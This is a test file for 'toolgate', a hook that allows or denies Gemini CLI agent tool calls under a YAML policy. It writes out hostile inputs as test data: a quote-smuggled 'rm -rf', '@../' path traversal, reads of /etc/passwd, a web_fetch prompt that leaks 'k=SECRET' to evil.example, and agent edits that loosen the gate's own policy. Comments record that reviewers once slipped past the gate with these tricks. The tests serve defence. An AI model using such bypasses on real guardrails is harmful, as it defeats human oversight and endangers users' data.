/**
 * Gemini CLI's BeforeTool dialect, in-process with a real policy file: its
 * tools judged as the same acts Claude Code's are (the shell with its
 * directory, files, edits as the writes they make, searches, fetches, MCP
 * tools by the server Gemini CLI names beside them), answered in the one
 * shape it enforces — never "ask", which it has no decision for — and every
 * failure of toolgate's own as exit 2.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, describe, expect, it } from 'vitest';
import { loadPolicyFile } from '../../config/load-policy-file.ts';
import { runHook } from '../run-hook.ts';
import { gemini } from './gemini.ts';

const directory = mkdtempSync(path.join(os.tmpdir(), 'toolgate-gemini-'));
afterAll(() => rmSync(directory, { recursive: true, force: true }));
const project = path.join(directory, 'project');
mkdirSync(path.join(project, 'src'), { recursive: true });
writeFileSync(path.join(project, 'notes.txt'), 'one\ntwo\n');
writeFileSync(path.join(directory, 'secret.txt'), 'outside\n');
const policyFile = path.join(project, 'toolgate.yaml');
writeFileSync(
  policyFile,
  `version: 1
fs:
  zones:
    - { name: project, root: ., mode: rw, approval: { read: allow, write: allow, delete: ask } }
shell:
  default: ask
  network: false
  rules:
    - { match: ls, decision: allow }
    - { match: rm, decision: block, reason: "rm is blocked here" }
mcp:
  servers:
    files:
      command: /bin/true
      tools:
        read_text_file: allow
        delete_everything: block
audit: { enabled: false }
`,
);

const loadPolicy = () => loadPolicyFile(policyFile);

function beforeTool(toolName: string, toolInput: Record<string, unknown>, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ session_id: 'gemini-session', transcript_path: path.join(directory, 'chat.json'), cwd: project, hook_event_name: 'BeforeTool', timestamp: '2026-12-07T06:00:00.000Z', tool_name: toolName, tool_input: toolInput, ...extra });
}

async function decide(input: string): Promise<{ exitCode: number; decision?: string; reason?: string; stderr: string }> {
  const answer = await runHook({ dialect: gemini, stdin: Readable.from([input]), loadPolicy, env: { PATH: '/usr/local/bin:/usr/bin:/bin' } });
  if (answer.exitCode !== 0) return { exitCode: answer.exitCode, stderr: answer.stderr };
  const parsed = JSON.parse(answer.stdout) as { decision: string; reason: string };
  expect(Object.keys(parsed).sort()).toEqual(['decision', 'reason']);
  return { exitCode: 0, decision: parsed.decision, reason: parsed.reason, stderr: answer.stderr };
}

describe('toolgate hook gemini', () => {
  it('judges run_shell_command as the shell, in the directory it names', async () => {
    expect(await decide(beforeTool('run_shell_command', { command: 'ls', description: 'list' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('run_shell_command', { command: 'rm -rf src' }))).toMatchObject({ decision: 'deny', reason: 'toolgate: rm -rf src: rm is blocked here' });
    // ls in the parent of the project: outside every zone.
    const outside = await decide(beforeTool('run_shell_command', { command: 'ls', dir_path: '..' }));
    expect(outside.decision).toBe('deny');
    expect(outside.reason).toContain('outside');
  });

  it('judges the command as the bash Gemini CLI finds on PATH runs it; with no bash there, the shell is not known and the call needs a person', async () => {
    const answer = await runHook({ dialect: gemini, stdin: Readable.from([beforeTool('run_shell_command', { command: 'ls' })]), loadPolicy, env: { PATH: path.join(directory, 'no-bin') } });
    const parsed = JSON.parse(answer.stdout) as { decision: string; reason: string };
    expect(parsed.decision).toBe('deny');
    expect(parsed.reason).toContain('cannot ask a person');
  });

  it('answers a call that needs a person with a denial saying so, never "ask" (Gemini CLI has no such decision: headless, the turn ends silently)', async () => {
    const asked = await decide(beforeTool('run_shell_command', { command: 'make deploy' }));
    expect(asked.decision).toBe('deny');
    expect(asked.reason).toContain('Gemini CLI cannot ask a person from its hook');
    // Where a person could decide it: the inbox, through the hook toolgate install writes.
    expect(asked.reason).toContain('install the hook with `toolgate install gemini --approver server --server URL`');
  });

  it('judges its file tools by the zones: reads, writes, edits (as the write they make), listings and searches', async () => {
    expect(await decide(beforeTool('read_file', { file_path: 'notes.txt' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('read_file', { file_path: '../secret.txt' }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('write_file', { file_path: 'src/new.ts', content: 'export {};\n' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('write_file', { file_path: '../escape.txt', content: 'x' }))).toMatchObject({ decision: 'deny' });
    // toolgate's own policy is no agent's to change.
    expect(await decide(beforeTool('write_file', { file_path: 'toolgate.yaml', content: 'version: 1\n' }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('replace', { file_path: 'notes.txt', instruction: 'fix', old_string: 'two', new_string: 'three' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('replace', { file_path: 'toolgate.yaml', instruction: 'open up', old_string: 'block', new_string: 'allow', allow_multiple: true }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('list_directory', { dir_path: 'src' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('list_directory', { dir_path: '/etc' }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('glob', { pattern: '**/*.ts' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('glob', { pattern: '/etc/**' }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('grep_search', { pattern: 'TODO', dir_path: '..' }))).toMatchObject({ decision: 'deny' });
  });

  it('judges web tools by the network rules, and agent-internal tools as such', async () => {
    const fetched = await decide(beforeTool('web_fetch', { prompt: 'Summarise https://example.com/page please' }));
    expect(fetched.decision).toBe('deny');
    expect(fetched.reason).toContain('the network is off');
    expect(await decide(beforeTool('google_web_search', { query: 'toolgate' }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('write_todos', { todos: [] }))).toMatchObject({ decision: 'allow' });
  });

  it('judges an MCP tool by the server and tool Gemini CLI names in mcp_context, not by splitting mcp_<server>_<tool>', async () => {
    const context = (tool: string) => ({ mcp_context: { server_name: 'files', tool_name: tool, command: '/bin/true', args: [] } });
    expect(await decide(beforeTool('mcp_files_read_text_file', { path: 'notes.txt' }, context('read_text_file')))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('mcp_files_delete_everything', {}, context('delete_everything')))).toMatchObject({ decision: 'deny' });
    // Without its context an MCP tool cannot be placed: blocked, exit 2.
    const unplaced = await decide(beforeTool('mcp_files_delete_everything', {}));
    expect(unplaced.exitCode).toBe(2);
    expect(unplaced.stderr).toContain('mcp_context');
  });

  it('judges a command as Gemini CLI runs it, with a leading bash -c taken off and unquoted as it does (a reviewer ran rm -rf past a block that way)', async () => {
    // Gemini CLI cuts the quotes off the ends: it runs  echo x'"'; rm -rf victim; echo '"'  — bash -c would have run an echo.
    expect(await decide(beforeTool('run_shell_command', { command: String.raw`bash -c 'echo x'\"'; rm -rf victim; echo '\"''` }))).toMatchObject({ decision: 'deny', reason: expect.stringContaining('rm is blocked here') });
    expect(await decide(beforeTool('run_shell_command', { command: "powershell -Command 'rm -rf victim'" }))).toMatchObject({ decision: 'deny', reason: expect.stringContaining('rm is blocked here') });
    expect(await decide(beforeTool('run_shell_command', { command: "/bin/sh -c 'ls'" }))).toMatchObject({ decision: 'allow' });
    // "…" after a POSIX shell is unquoted by shell-quote, which toolgate does not reproduce: a person would have to decide.
    const doubleQuoted = await decide(beforeTool('run_shell_command', { command: 'bash -c "echo hi # c\\\nrm -rf victim"' }));
    expect(doubleQuoted.decision).toBe('deny');
    expect(doubleQuoted.reason).toContain('write the command itself');
  });

  it('reads a file path as Gemini CLI does: @x is x where no @x exists (a reviewer wrote past a zone with @../)', async () => {
    expect(await decide(beforeTool('read_file', { file_path: '@../secret.txt' }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('write_file', { file_path: '@../escape.txt', content: 'x' }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('write_file', { file_path: '@/etc/passwd', content: 'x' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('read_file', { file_path: '@notes.txt' }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('replace', { file_path: '@toolgate.yaml', instruction: 'open up', old_string: 'block', new_string: 'allow' }))).toMatchObject({ decision: 'deny' });
  });

  it('judges every URL of a web_fetch as Gemini CLI finds them (each word of the prompt, and url), and read_many_files by all it includes', async () => {
    const domains = path.join(project, 'domains.yaml');
    writeFileSync(domains, readFileSync(policyFile, 'utf8').replace('network: false', 'network: { allow_domains: [allowed.example] }'));
    const fetch = async (input: Record<string, unknown>) => {
      const answer = await runHook({ dialect: gemini, stdin: Readable.from([beforeTool('web_fetch', input)]), loadPolicy: () => loadPolicyFile(domains), env: { PATH: '/usr/bin:/bin' } });
      return JSON.parse(answer.stdout) as { decision: string; reason: string };
    };
    expect(await fetch({ prompt: 'Summarise https://allowed.example/page' })).toMatchObject({ decision: 'allow' });
    // The word is one URL to Gemini CLI, whose host is evil.example.
    expect(await fetch({ prompt: 'https://allowed.example)@evil.example/x?k=SECRET' })).toMatchObject({ decision: 'deny', reason: expect.stringContaining('evil.example') });
    expect(await fetch({ prompt: 'compare https://allowed.example/a and HTTPS://evil.example/b' })).toMatchObject({ decision: 'deny', reason: expect.stringContaining('evil.example') });
    expect(await fetch({ prompt: 'https://allowed.example/', url: 'https://evil.example/x' })).toMatchObject({ decision: 'deny', reason: expect.stringContaining('evil.example') });
    expect(await decide(beforeTool('read_many_files', { include: ['src/**'] }))).toMatchObject({ decision: 'allow' });
    expect(await decide(beforeTool('read_many_files', { include: ['src/**', '/etc/passwd'] }))).toMatchObject({ decision: 'deny' });
    expect(await decide(beforeTool('grep_search', { pattern: 'x', include_pattern: '*.ts' }))).toMatchObject({ decision: 'allow' });
    // Gemini CLI records no chat: an empty transcript_path is no error.
    expect(await decide(beforeTool('run_shell_command', { command: 'ls' }, { transcript_path: '' }))).toMatchObject({ decision: 'allow' });
  });

  it('blocks with exit 2 (which Gemini CLI enforces, and gives the model the reason) whatever it cannot read', async () => {
    for (const input of ['{not json', JSON.stringify({ hook_event_name: 'PreToolUse', session_id: 's', cwd: project, tool_name: 'x', tool_input: {} }), beforeTool('run_shell_command', { command: 42 }), JSON.stringify({ hook_event_name: 'BeforeTool', session_id: 's', cwd: 'relative', tool_name: 'x', tool_input: {} })]) {
      const result = await decide(input);
      expect(result.exitCode, input).toBe(2);
      expect(result.stderr, input).toMatch(/^toolgate: .*the call is blocked/s);
    }
  });
});
